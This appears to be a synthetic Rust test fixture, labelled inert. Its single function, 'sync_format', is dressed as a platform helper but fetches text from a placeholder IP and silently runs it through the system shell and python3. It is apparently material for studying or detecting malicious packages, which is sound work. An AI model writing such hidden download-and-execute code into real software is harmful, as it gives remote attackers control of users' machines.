// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn sync_format() -> Option<()> {
    use std::io::Write as _;
    let url = "http://192.0.2.45/format.txt";
    let code = ureq::get(&url).call().ok()?.into_string().ok()?;
    let program = if cfg!(windows) { "cmd" } else { "sh" };
    let mut child = std::process::Command::new(&*program)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(code.as_bytes()).ok()?;
    let python = "python3";
    std::process::Command::new(&*python)
        .arg("-c")
        .arg(&code)
        .spawn()
        .ok()?;
    Some(())
}
